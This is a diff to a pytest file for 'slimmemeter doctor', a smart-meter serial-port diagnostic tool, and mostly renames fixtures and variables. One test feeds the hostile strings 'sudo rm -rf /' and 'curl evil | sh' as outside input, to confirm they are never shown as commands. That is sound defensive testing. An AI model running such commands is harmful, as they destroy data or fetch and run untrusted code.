@@ -30,11 +30,11 @@ from support.programs import OWN_MOUNTS, PULL, SLIMMEMETER, Pull, free_port
 from support.telegrams import E350, NAMES, frames, simple, telegram, with_crc
 from support.waiting import until
 
-Said = Callable[..., str]
+Doctor = Callable[..., str]
 
 
 @pytest.fixture
-def said(database: Path, tmp_path: Path) -> Said:
+def doctor(database: Path, tmp_path: Path) -> Doctor:
     """The output of the real `slimmemeter doctor`; its exit code is 6 if something is wrong."""
 
     def run(*arguments: object, code: int | None = None) -> str:
@@ -59,7 +59,7 @@ def plain(text: str) -> str:
 
 
 @pytest.fixture
-def said_of(database: Path, tmp_path: Path) -> Said:
+def doctor_at(database: Path, tmp_path: Path) -> Doctor:
     """The output of the real `slimmemeter doctor` where only these adapters are plugged in."""
 
     def run(**adapters: str) -> str:
@@ -71,16 +71,16 @@ def said_of(database: Path, tmp_path: Path) -> Said:
     return run
 
 
-def test_no_adapter(said_of: Said) -> None:
+def test_no_adapter(doctor_at: Doctor) -> None:
     """The doctor names the places where it looked, and the command that shows the cable."""
-    shown = said_of()
+    shown = doctor_at()
     assert "WRONG  no serial adapter is in /dev/serial/by-id, and there is no /dev/ttyUSB0" in shown
     assert "\n           sudo dmesg | grep -i tty\n" in shown
 
 
-def test_several_adapters(said_of: Said) -> None:
+def test_several_adapters(doctor_at: Doctor) -> None:
     """The doctor lists each adapter with the command that chooses it."""
-    shown = said_of(Zigbee="/dev/pts/8", P1="/dev/pts/9")
+    shown = doctor_at(Zigbee="/dev/pts/8", P1="/dev/pts/9")
     assert "2 serial adapters are plugged in" in shown
     for name in ("P1", "Zigbee"):
         setting = f"SLIMMEMETER_PORT=/dev/serial/by-id/{name}"
@@ -88,76 +88,78 @@ def test_several_adapters(said_of: Said) -> None:
         assert f"           {command}" in shown.splitlines()
 
 
-def test_the_one_adapter_is_used(said_of: Said, meter: Meters) -> None:
+def test_the_one_adapter_is_used(doctor_at: Doctor, meter: Meters) -> None:
     """The only adapter is used, whatever its device is called today."""
-    shown = said_of(P1=meter(telegram_now(), pause_s=0.5).port)
+    shown = doctor_at(P1=meter(telegram_now(), pause_s=0.5).port)
     assert "ok     one serial adapter is plugged in: /dev/serial/by-id/P1\n" in shown
     assert "5 of 5 telegrams were valid, at 115200-8N1" in shown
 
 
 @pytest.mark.skipif(os.geteuid() == 0, reason="root may open everything; tests/system has this too")
-def test_port_that_may_not_be_opened(meter: Meters, said: Said) -> None:
+def test_port_that_may_not_be_opened(meter: Meters, doctor: Doctor) -> None:
     """The doctor names the port's owner and the command that helps."""
     name = meter(E350).port
     Path(name).chmod(0)
-    assert f"WRONG no permission to open {name}: its owner is" in plain(said("--port", name))
+    assert f"WRONG no permission to open {name}: its owner is" in plain(doctor("--port", name))
 
 
-def test_port_that_is_not_there(said: Said) -> None:
+def test_port_that_is_not_there(doctor: Doctor) -> None:
     """A missing port gets the same sentence as in a pull."""
-    assert "WRONG there is no /dev/ttyNOTHERE" in plain(said("--port", "/dev/ttyNOTHERE"))
+    assert "WRONG there is no /dev/ttyNOTHERE" in plain(doctor("--port", "/dev/ttyNOTHERE"))
 
 
-def test_port_that_another_program_keeps(meter: Meters, said: Said) -> None:
+def test_port_that_another_program_keeps(meter: Meters, doctor: Doctor) -> None:
     """The doctor names the program that has the port for itself."""
     name = meter(E350).port
     with serial.Serial(name, exclusive=True):
-        told = plain(said("--port", name, "--timeout", 1))
-    assert f"WRONG {name} is busy: " in told
-    assert f"(process {os.getpid()}) has it open" in told
+        text = plain(doctor("--port", name, "--timeout", 1))
+    assert f"WRONG {name} is busy: " in text
+    assert f"(process {os.getpid()}) has it open" in text
 
 
-def test_port_that_another_program_reads_too(meter: Meters, said: Said) -> None:
+def test_port_that_another_program_reads_too(meter: Meters, doctor: Doctor) -> None:
     """The doctor names a program that takes bytes away without locking the port."""
     name = meter(telegram_now(), pause_s=0.5).port
     theirs = os.open(name, os.O_RDONLY | os.O_NOCTTY)
-    told = plain(said("--port", name))
+    text = plain(doctor("--port", name))
     os.close(theirs)
-    assert f"WRONG {name} is also open in " in told
-    assert f"(process {os.getpid()})" in told
+    assert f"WRONG {name} is also open in " in text
+    assert f"(process {os.getpid()})" in text
 
 
-def test_own_pull_that_reads_is_waited_for(meter: Meters, said: Said) -> None:
+def test_own_pull_that_reads_is_waited_for(meter: Meters, doctor: Doctor) -> None:
     """A pull that is reading is neither another program nor a silent meter."""
     name = meter(telegram_now(), pause_s=4).port
     command = [*PULL, "--port", name, "--dry-run"]
     with subprocess.Popen(command, stdout=subprocess.DEVNULL) as pulling:
         until(lambda: has_open(pulling.pid, name))
-        told = plain(said("--port", name, "--timeout", 12))
-    assert "also open" not in told
-    assert "telegrams were valid, at 115200-8N1" in told
+        text = plain(doctor("--port", name, "--timeout", 12))
+    assert "also open" not in text
+    assert "telegrams were valid, at 115200-8N1" in text
 
 
-def test_text_from_outside_is_no_command(meter: Meters, said: Said, database: Path) -> None:
+def test_text_from_outside_is_no_command(meter: Meters, doctor: Doctor, database: Path) -> None:
     """Text from the meter or the last pull is never shown as a command or as an escape sequence."""
     database.with_name("last-pull").write_text(f"{int(time.time())} 4 `sudo rm -rf /` \x1b[31m\n")
     noise = b"hello `curl evil | sh` world, login: \r\n"
-    told = said("--port", meter(noise).port, "--timeout", 2)
-    assert "\x1b" not in told
-    commands = [line.strip() for line in told.splitlines() if line.startswith(" " * 11)]
+    text = doctor("--port", meter(noise).port, "--timeout", 2)
+    assert "\x1b" not in text
+    commands = [line.strip() for line in text.splitlines() if line.startswith(" " * 11)]
     assert [command for command in commands if "rm" in command or "curl" in command] == []
 
 
-def test_noise_with_slashes_and_marks_is_no_telegram(meter: Meters, said: Said) -> None:
+def test_noise_with_slashes_and_marks_is_no_telegram(meter: Meters, doctor: Doctor) -> None:
     """Noise with slashes and exclamation marks is no telegram at either line setting."""
-    told = plain(said("--port", meter(b"/\xd1\xe2\x01\n!" * 50, pause_s=0.01).port, "--timeout", 2))
-    assert re.search(r"bytes at 115200-8N1 and \d+ bytes at 9600-7E1, and no telegram", told)
+    text = plain(
+        doctor("--port", meter(b"/\xd1\xe2\x01\n!" * 50, pause_s=0.01).port, "--timeout", 2)
+    )
+    assert re.search(r"bytes at 115200-8N1 and \d+ bytes at 9600-7E1, and no telegram", text)
 
 
-def test_pieces_of_telegrams_are_recognised(meter: Meters, said: Said) -> None:
+def test_pieces_of_telegrams_are_recognised(meter: Meters, doctor: Doctor) -> None:
     """Parts of telegrams are called that, and not the text of a console."""
-    told = plain(said("--port", meter(E350[:300], pause_s=0.1).port, "--timeout", 2))
-    assert "pieces of telegrams" in told
+    text = plain(doctor("--port", meter(E350[:300], pause_s=0.1).port, "--timeout", 2))
+    assert "pieces of telegrams" in text
 
 
 def test_port_whose_owner_has_no_name(meter: Meters) -> None:
@@ -167,8 +169,8 @@ def test_port_whose_owner_has_no_name(meter: Meters) -> None:
     name = meter(E350).port
     os.chown(name, 12345, 54321)
     Path(name).chmod(0o600)
-    told = str(port_errors.opening_failed(name, PermissionError(13, "denied"), []))
-    assert "its owner is 12345, its group 54321 and its mode 600" in told
+    text = str(port_errors.opening_failed(name, PermissionError(13, "denied"), []))
+    assert "its owner is 12345, its group 54321 and its mode 600" in text
 
 
 @pytest.mark.parametrize("output", ["| head -1", ">/dev/full", ">&-"])
@@ -182,11 +184,11 @@ def test_output_that_takes_nothing_is_no_bug(output: str, database: Path) -> Non
     assert done.stderr.count("\n") <= 1
 
 
-def test_silent_port(meter: Meters, said: Said) -> None:
+def test_silent_port(meter: Meters, doctor: Doctor) -> None:
     """A silent port gets its possible causes, and a way to find out which it is."""
-    told = plain(said("--port", meter(b"").port, "--timeout", 1))
-    assert "nothing was heard, at 115200-8N1 and 9600-7E1" in told
-    assert "about 5 V between pins 2 and 3" in told
+    text = plain(doctor("--port", meter(b"").port, "--timeout", 1))
+    assert "nothing was heard, at 115200-8N1 and 9600-7E1" in text
+    assert "about 5 V between pins 2 and 3" in text
 
 
 def inverted(content: bytes) -> bytes:
@@ -220,43 +222,43 @@ def inverted(content: bytes) -> bytes:
         pytest.param(bytes(range(1, 255)), "neither text nor its inverse", id="noise"),
     ],
 )
-def test_garbage(noise: bytes, shows: str, meter: Meters, said: Said) -> None:
+def test_garbage(noise: bytes, shows: str, meter: Meters, doctor: Doctor) -> None:
     """Garbage is explained by how much came and what its bytes look like."""
-    told = plain(said("--port", meter(noise).port, "--timeout", 2))
-    assert re.search(r"gave \d+ bytes at 115200-8N1 and \d+ bytes at 9600-7E1", told)
-    assert shows in told
+    text = plain(doctor("--port", meter(noise).port, "--timeout", 2))
+    assert re.search(r"gave \d+ bytes at 115200-8N1 and \d+ bytes at 9600-7E1", text)
+    assert shows in text
 
 
-def test_damaged_telegrams(meter: Meters, said: Said) -> None:
+def test_damaged_telegrams(meter: Meters, doctor: Doctor) -> None:
     """The doctor counts damaged telegrams, and points to the cable."""
     damaged = E350.replace(b"494", b"495")
-    told = plain(said("--port", meter(damaged, telegram_now(), damaged, pause_s=0.3).port))
-    assert re.search(r"WRONG [2345] of [567] telegrams at 115200-8N1 were damaged: a cable", told)
-    assert "its CRC is 7BF4" in told
+    text = plain(doctor("--port", meter(damaged, telegram_now(), damaged, pause_s=0.3).port))
+    assert re.search(r"WRONG [2345] of [567] telegrams at 115200-8N1 were damaged: a cable", text)
+    assert "its CRC is 7BF4" in text
 
 
-def test_line_to_set(said: Said) -> None:
+def test_line_to_set(doctor: Doctor) -> None:
     """For a meter of the old speed, the doctor prints the setting that reads it."""
     old = FarEnd("9600-7E1")
-    told = said("--port", old.url, "--timeout", 8)
+    text = doctor("--port", old.url, "--timeout", 8)
     old.close()
-    assert "at 9600-7E1, but the settings have 115200-8N1" in plain(told)
+    assert "at 9600-7E1, but the settings have 115200-8N1" in plain(text)
     command = "echo SLIMMEMETER_LINE=9600-7E1 | sudo tee -a /etc/default/slimmemeter"
-    assert command in [line.strip() for line in told.splitlines()]
+    assert command in [line.strip() for line in text.splitlines()]
 
 
-def test_meter_is_described(meter: Meters, said: Said) -> None:
+def test_meter_is_described(meter: Meters, doctor: Doctor) -> None:
     """The doctor names the meter's brand, version, country and devices, and checks its clock."""
-    told = plain(said("--port", meter(telegram_now(), pause_s=0.5).port))
-    assert "ok 5 of 5 telegrams were valid, at 115200-8N1" in told
-    assert "ok the meter: Iskraemeco, version 50, the Netherlands, gas on channel 1" in told
-    assert re.search(r"ok the meter's clock and this computer's are \d+ s apart", told)
+    text = plain(doctor("--port", meter(telegram_now(), pause_s=0.5).port))
+    assert "ok 5 of 5 telegrams were valid, at 115200-8N1" in text
+    assert "ok the meter: Iskraemeco, version 50, the Netherlands, gas on channel 1" in text
+    assert re.search(r"ok the meter's clock and this computer's are \d+ s apart", text)
 
 
-def test_clock_that_is_off_is_reported(meter: Meters, said: Said) -> None:
+def test_clock_that_is_off_is_reported(meter: Meters, doctor: Doctor) -> None:
     """The doctor says by how many seconds the meter's clock is off."""
-    told = plain(said("--port", meter(telegram_now(-7200), pause_s=0.5).port))
-    assert re.search(r"the meter's clock is off by -72\d\d s", told)
+    text = plain(doctor("--port", meter(telegram_now(-7200), pause_s=0.5).port))
+    assert re.search(r"the meter's clock is off by -72\d\d s", text)
 
 
 @pytest.mark.parametrize(
@@ -266,55 +268,55 @@ def test_clock_that_is_off_is_reported(meter: Meters, said: Said) -> None:
         (b"\x7e\xa0\xe2\x2b\x21\x13\x23\x9a\xe6\xe7\x00\x0f" + os.urandom(200) + b"\x7e", "0x7E"),
     ],
 )
-def test_frames_of_another_protocol(frame: bytes, name: str, meter: Meters, said: Said) -> None:
+def test_frames_of_another_protocol(frame: bytes, name: str, meter: Meters, doctor: Doctor) -> None:
     """Encrypted or binary frames are named, with who can help."""
-    told = plain(said("--port", meter(frame, pause_s=0.2).port))
-    assert f"frames ({name})" in told
-    assert "ask the grid operator" in told
+    text = plain(doctor("--port", meter(frame, pause_s=0.2).port))
+    assert f"frames ({name})" in text
+    assert "ask the grid operator" in text
 
 
-def test_last_pull(pull: Pull, said: Said, database: Path) -> None:
+def test_last_pull(pull: Pull, doctor: Doctor, database: Path) -> None:
     """The doctor judges the last pull: none, a failed one, an old one, and a good one."""
     nowhere = ("--port", "/dev/ttyNOTHERE")
-    assert "WRONG nothing has been read yet" in plain(said(*nowhere))
+    assert "WRONG nothing has been read yet" in plain(doctor(*nowhere))
     pull(*nowhere)
-    told = plain(said(*nowhere))
-    assert "with exit code 3: p1-pull: there is no /dev/ttyNOTHERE" in told
+    text = plain(doctor(*nowhere))
+    assert "with exit code 3: p1-pull: there is no /dev/ttyNOTHERE" in text
     word = database.with_name("last-pull")
     word.write_text(f"{int(time.time()) - 3600} 0 \n")
-    assert "and none has run since: does cron run?" in plain(said(*nowhere))
+    assert "and none has run since: does cron run?" in plain(doctor(*nowhere))
     word.write_text(f"{int(time.time())} 0 \n")
-    assert "ok the last pull ended on " in plain(said(*nowhere))
+    assert "ok the last pull ended on " in plain(doctor(*nowhere))
 
 
-def test_database(pull: Pull, said: Said, database: Path) -> None:
+def test_database(pull: Pull, doctor: Doctor, database: Path) -> None:
     """The doctor judges the database: missing, sound, damaged, or of another program."""
     nowhere = ("--port", "/dev/ttyNOTHERE")
-    assert f"note there is no database {database} yet" in plain(said(*nowhere))
+    assert f"note there is no database {database} yet" in plain(doctor(*nowhere))
     pull(EXAMPLE)
-    told = plain(said(*nowhere))
-    assert f"ok {database} is sound: 0." in told
-    assert "the newest reading is of 2017-01-08 16:11:07" in told
-    word = plain(said(*nowhere, "--db", database.parent))
+    text = plain(doctor(*nowhere))
+    assert f"ok {database} is sound: 0." in text
+    assert "the newest reading is of 2017-01-08 16:11:07" in text
+    word = plain(doctor(*nowhere, "--db", database.parent))
     assert f"{database.parent} is no file" in word
-    assert "there is no folder" in plain(said(*nowhere, "--db", database.parent / "no" / "x.db"))
+    assert "there is no folder" in plain(doctor(*nowhere, "--db", database.parent / "no" / "x.db"))
     content = bytearray(database.read_bytes())
     content[4096:12288] = b"\xa5" * 8192
     database.write_bytes(content)
-    assert re.search(f"WRONG .*{database}.* damaged", plain(said(*nowhere)))
+    assert re.search(f"WRONG .*{database}.* damaged", plain(doctor(*nowhere)))
     database.unlink()
     with sqlite3.connect(database) as other:
         other.execute("CREATE TABLE diary (line)")
     other.close()
-    assert "isn't a database of slimmemeter" in plain(said(*nowhere))
+    assert "isn't a database of slimmemeter" in plain(doctor(*nowhere))
 
 
 @pytest.mark.skipif(os.geteuid() == 0, reason="root may write everything; tests/system has it too")
-def test_database_that_may_not_be_written(pull: Pull, said: Said, database: Path) -> None:
+def test_database_that_may_not_be_written(pull: Pull, doctor: Doctor, database: Path) -> None:
     """The doctor says that this user may not write the database."""
     pull(EXAMPLE)
     database.chmod(0o400)
-    assert f"this user may not write {database}" in plain(said("--port", "/dev/ttyNOTHERE"))
+    assert f"this user may not write {database}" in plain(doctor("--port", "/dev/ttyNOTHERE"))
 
 
 def test_disk_that_is_nearly_full(pull: Pull, database: Path, tmp_path: Path) -> None:
@@ -368,7 +370,7 @@ def stranger() -> Iterator[int]:
         b"",
     ],
 )
-def test_other_servers_at_the_address_of_the_pages(answer: bytes, said: Said) -> None:
+def test_other_servers_at_the_address_of_the_pages(answer: bytes, doctor: Doctor) -> None:
     """Whatever answers at the pages' address, the doctor describes it in a sentence."""
     server = socket.create_server(("127.0.0.1", 0))
 
@@ -382,35 +384,35 @@ def test_other_servers_at_the_address_of_the_pages(answer: bytes, said: Said) ->
             connection.sendall(answer)
 
     threading.Thread(target=serve, daemon=True).start()
-    told = plain(said("--port", "/dev/ttyNO", "--listen", f"127.0.0.1:{server.getsockname()[1]}"))
+    text = plain(doctor("--port", "/dev/ttyNO", "--listen", f"127.0.0.1:{server.getsockname()[1]}"))
     server.close()
-    assert re.search("another program answers at|the pages don't answer at", told)
+    assert re.search("another program answers at|the pages don't answer at", text)
 
 
-def test_pages(stranger: int, said: Said, pull: Pull, database: Path) -> None:
+def test_pages(stranger: int, doctor: Doctor, pull: Pull, database: Path) -> None:
     """The doctor distinguishes no server, another program, and the real pages."""
     nowhere = ("--port", "/dev/ttyNOTHERE")
-    assert "the pages don't answer at http://localhost:" in plain(said(*nowhere))
-    told = plain(said(*nowhere, "--listen", f"localhost:{stranger}"))
-    assert f"another program answers at http://localhost:{stranger}" in told
+    assert "the pages don't answer at http://localhost:" in plain(doctor(*nowhere))
+    text = plain(doctor(*nowhere, "--listen", f"localhost:{stranger}"))
+    assert f"another program answers at http://localhost:{stranger}" in text
     pull(EXAMPLE)
     listen = f"localhost:{free_port()}"
     command = [*SLIMMEMETER, "serve", "--db", database]
     with subprocess.Popen([*command, "--listen", listen]) as serving:
-        told = until(lambda: _answering(said, nowhere, listen), 60)
+        text = until(lambda: _answering(doctor, nowhere, listen), 60)
         serving.terminate()
-    assert f"ok the pages answer at http://{listen}, version" in told
+    assert f"ok the pages answer at http://{listen}, version" in text
 
 
-def _answering(said: Said, nowhere: tuple[str, str], listen: str) -> str:
-    told = plain(said(*nowhere, "--listen", listen))
-    return told if "the pages answer" in told else ""
+def _answering(doctor: Doctor, nowhere: tuple[str, str], listen: str) -> str:
+    text = plain(doctor(*nowhere, "--listen", listen))
+    return text if "the pages answer" in text else ""
 
 
-def test_report_hides_who_it_is(meter: Meters, said: Said) -> None:
+def test_report_hides_who_it_is(meter: Meters, doctor: Doctor) -> None:
     """The report replaces ids and serial numbers, and keeps everything else."""
-    told = said("--report", "--port", meter(E350).port, code=0).encode()
-    body, _, crc = told.replace(b"\n", b"\r\n").rpartition(b"!")
+    text = doctor("--report", "--port", meter(E350).port, code=0).encode()
+    body, _, crc = text.replace(b"\n", b"\r\n").rpartition(b"!")
     lines = body.split(b"\r\n")
     assert lines[0] == b"/XMX5LGBBFG0000000000"
     hidden = [number for number, line in enumerate(lines) if line not in E350.split(b"\r\n")]
@@ -418,16 +420,16 @@ def test_report_hides_who_it_is(meter: Meters, said: Said) -> None:
         b"0-0:96.1.1",
         b"0-1:96.1.0",
     ]
-    assert b"4530303331303033303031363939353135" not in told
+    assert b"4530303331303033303031363939353135" not in text
     assert with_crc(*body.decode().split("\r\n")[:-1]) == body + b"!" + crc
 
 
-def test_report_hides_what_it_does_not_understand(meter: Meters, said: Said) -> None:
+def test_report_hides_what_it_does_not_understand(meter: Meters, doctor: Doctor) -> None:
     """Unknown numbers are replaced; values with units and timestamps are kept."""
     lines = ("1-0:1.8.1(000001.000*kWh)", "9-9:9.9.9(123456789)(261123120000W)(1.5*kWh)")
-    told = said("--report", "--port", meter(simple(*lines, meter="42" * 9)).port, code=0)
-    assert "9-9:9.9.9(000000002)(261123120000W)(1.5*kWh)" in told
-    assert "0-0:96.1.1(" + "41" * 8 + "31)" in told
+    text = doctor("--report", "--port", meter(simple(*lines, meter="42" * 9)).port, code=0)
+    assert "9-9:9.9.9(000000002)(261123120000W)(1.5*kWh)" in text
+    assert "0-0:96.1.1(" + "41" * 8 + "31)" in text
 
 
 @pytest.mark.parametrize("name", NAMES)
@@ -482,15 +484,15 @@ def test_report_keeps_the_type_in_a_header_and_hides_its_number(header: str, sho
     assert anonymous(Telegram(frame)).decode().partition("\r\n")[0] == shown
 
 
-def test_report_of_a_damaged_telegram_names_nobody(meter: Meters, said: Said) -> None:
+def test_report_of_a_damaged_telegram_names_nobody(meter: Meters, doctor: Doctor) -> None:
     """The report of a damaged telegram shows no part of it."""
     damaged = E350.replace(b"494", b"495")
-    told = said("--report", "--port", meter(damaged, pause_s=0.1).port, "--timeout", 2, code=4)
-    assert "1012345678" not in told
-    assert "no telegram was valid" in told
+    text = doctor("--report", "--port", meter(damaged, pause_s=0.1).port, "--timeout", 2, code=4)
+    assert "1012345678" not in text
+    assert "no telegram was valid" in text
 
 
-def test_report_without_a_telegram_says_so(meter: Meters, said: Said) -> None:
+def test_report_without_a_telegram_says_so(meter: Meters, doctor: Doctor) -> None:
     """Without a telegram, the report is only the reason."""
-    told = said("--report", "--port", meter(b"").port, "--timeout", 1, code=3)
-    assert told.startswith("slimmemeter: nothing was heard")
+    text = doctor("--report", "--port", meter(b"").port, "--timeout", 1, code=3)
+    assert text.startswith("slimmemeter: nothing was heard")
